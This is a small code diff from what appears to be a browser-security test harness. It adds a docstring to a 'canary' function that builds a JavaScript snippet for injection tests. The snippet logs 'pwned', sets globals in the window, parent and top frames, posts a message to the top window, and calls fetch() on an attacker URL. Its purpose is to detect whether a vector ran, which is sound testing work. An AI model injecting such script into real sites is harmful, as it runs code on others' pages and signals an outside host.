@@ -36,13 +36,13 @@ LATER_TEXT = "typed after the vectors"
 # Schemes that never leave the browser.
 LOCAL_SCHEMES = ("data:", "blob:", "about:")
 
-# Every vector's script says it ran in each way a test can see: a global in this window, its
-# parent and the top one, a console line, a message to the top window, a request to the attacker.
 Event = list[Any]
 Node = list[Any]
 
 
 def canary(attacker: str, name: str) -> str:
+    """A vector's script: it says it ran in each way a test can see (a console line, a global in
+    its window, its parent and the top one, a message to the top window, a request)."""
     return (
         f"console.log('pwned:{name}');top.__pwned=parent.__pwned=window.__pwned='{name}';"
         f"top.postMessage('pwned:{name}','*');fetch('{attacker}/pwned/{name}')"
